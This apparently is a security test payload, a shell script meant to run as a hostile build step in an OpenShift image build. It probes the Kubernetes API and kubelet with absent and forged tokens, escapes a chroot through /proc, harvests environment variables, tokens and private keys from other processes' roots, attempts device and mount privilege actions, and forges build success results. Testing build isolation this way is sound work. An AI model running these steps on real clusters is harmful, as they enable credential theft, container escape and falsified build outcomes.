# What a hostile RUN line does. What it finds and what it is answered goes into the image, where the test reads it.
set -u
if [ "$1" != out ]; then
    mkdir -p /usr/share/found
    # The API, the kubelet and what else a node has, as nobody and with a token that is none.
    ask() {
        body='{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"forged"},"data":{"digest":"forged"}}'
        head="$2 $4 HTTP/1.1\r\nHost: $3\r\nConnection: close\r\nContent-Type: ${5:-application/json}\r\nContent-Length: ${#body}\r\n"
        [ "$1" != forger ] || head="${head}Authorization: Bearer forged\r\n"
        status=$(printf "$head\r\n%s" "$body" | timeout 10 openssl s_client -quiet -connect "$3" 2>/dev/null | grep -m1 -aoE '^HTTP/1.. [0-9]+')
        echo "$1 ${status#* } $2 $3$4"
    }
    maps=/api/v1/namespaces/$3/configmaps
    {
        for path in "/api/v1/namespaces/$3/secrets" "$maps" "/api/v1/namespaces/$3/pods" /api/v1/secrets /api/v1/nodes \
            /apis/machineconfiguration.openshift.io/v1/machineosconfigs; do
            ask stranger GET "$1:443" "$path"
            ask forger GET "$1:443" "$path"
        done
        ask stranger POST "$1:443" "$maps"
        ask stranger PATCH "$1:443" "$maps/mosb-config" application/merge-patch+json
        ask forger GET "$2:10250" /pods
        ask alive GET "$1:443" /version
        for place in "$2/10255" 127.0.0.1/2379 127.0.0.1/10248 127.0.0.1/10257; do
            timeout 5 bash -c "exec 4<>/dev/tcp/$place" 2>/dev/null && echo "open 000 $place"
        done
    } >/usr/share/found/asked
    # A chroot is no wall: from a directory that is held open, the way up leads out of it, into the container.
    exec 3</
    up='cd -P /self/fd/3; for n in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16; do cd -P ..; done
        exec /self/fd/3/usr/bin/busybox chroot . /bin/sh -s "$@"'
    exec /usr/bin/busybox chroot /proc /self/fd/3/usr/bin/busybox sh -c "$up" sh out "$@" </usr/share/script
fi
forged=$5
base=/proc/$$/fd/3
out=$base/usr/share/found
bb() { "$base/usr/bin/busybox" "$@"; }

# Where it is, as whom, among whom.
cat /proc/self/uid_map >"$out/uid_map"
for process in /proc/[0-9]*; do tr '\0' ' ' <"$process/cmdline" && echo; done >"$out/processes" 2>/dev/null
cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | sort -u >"$out/environ"
cat /proc/[0-9]*/mountinfo 2>/dev/null | sort -u >"$out/mounts"
ls /dev >"$out/devices"

# Credentials, tokens, keys and another pod's word, in each root that a process here has.
for root in / "$base/" /proc/[0-9]*/root/; do
    id=$(stat -Lc %d:%i "$root" 2>/dev/null) || continue
    grep -qsx "$id" /tmp/seen && continue
    echo "$id" >>/tmp/seen
    grep -rIlE --devices=skip --exclude-dir=proc --exclude-dir=sys '"aut[h]"|eyJhbG[c]iOi|PRIVATE[ ]KEY|neighbours-[w]ord' "$root" 2>/dev/null
done >/tmp/files
while read -r file; do echo "== $file" && head -c 20000 "$file" && echo; done </tmp/files >"$out/secrets"

# The node. None of these would change anything if it were allowed.
try() {
    what=$1
    shift
    if "$@" >/dev/null 2>&1; then echo "$what: done"; else echo "$what: refused"; fi
}
device() { bb mknod "/tmp/$1" "$1" "$2" "$3" && head -c 1 "/tmp/$1"; }
writable() { true >>"$1"; }
{
    try 'a disk' device b 8 0
    try memory device c 1 1
    try 'mount of a disk' bb mount -t ext4 /dev/sda1 /mnt
    try 'mount of cgroups' bb mount -t cgroup2 none /mnt
    try 'mount of debugfs' bb mount -t debugfs none /mnt
    try 'another /proc' bb mount -t proc none /mnt
    try 'another root' bb mount --bind / /mnt
    try sysrq writable /proc/sysrq-trigger
    try 'core pattern' writable /proc/sys/kernel/core_pattern
    try uevents writable "/sys/kernel/uevent_helper"
    try kubelet ls "/var/lib/kubelet"
    try runtime ls "/run/containerd"
    try token ls "/var/run/secrets/kubernetes.io"
} >"$out/tried"

# A result of its own making, wherever one might be looked for, for the right build and Job.
spec=$(tr '\0' '\n' </proc/1/cmdline | sed -n 's/^--spec=//p')
build=$(sed -n 's/^  "build": "\(.*\)",$/\1/p' "$spec")
result="{\"jobUid\":\"\",\"build\":\"$build\",\"outcome\":\"Succeeded\",\"digest\":\"$forged\",\"method\":\"containerfile\"}"
for folder in failure result image; do
    mkdir -p "/run/mosb/$folder"
    echo "$result" >"/run/mosb/$folder/result.json"
    echo "{\"result\":\"$forged\"}" >"/run/mosb/$folder/acknowledged"
    echo "$forged" >"/run/mosb/$folder/digest"
done
echo "$result" >"/dev/termination-log"
cat /run/mosb/failure/result.json /dev/termination-log >"$out/forged"
rm -f /tmp/files /tmp/seen
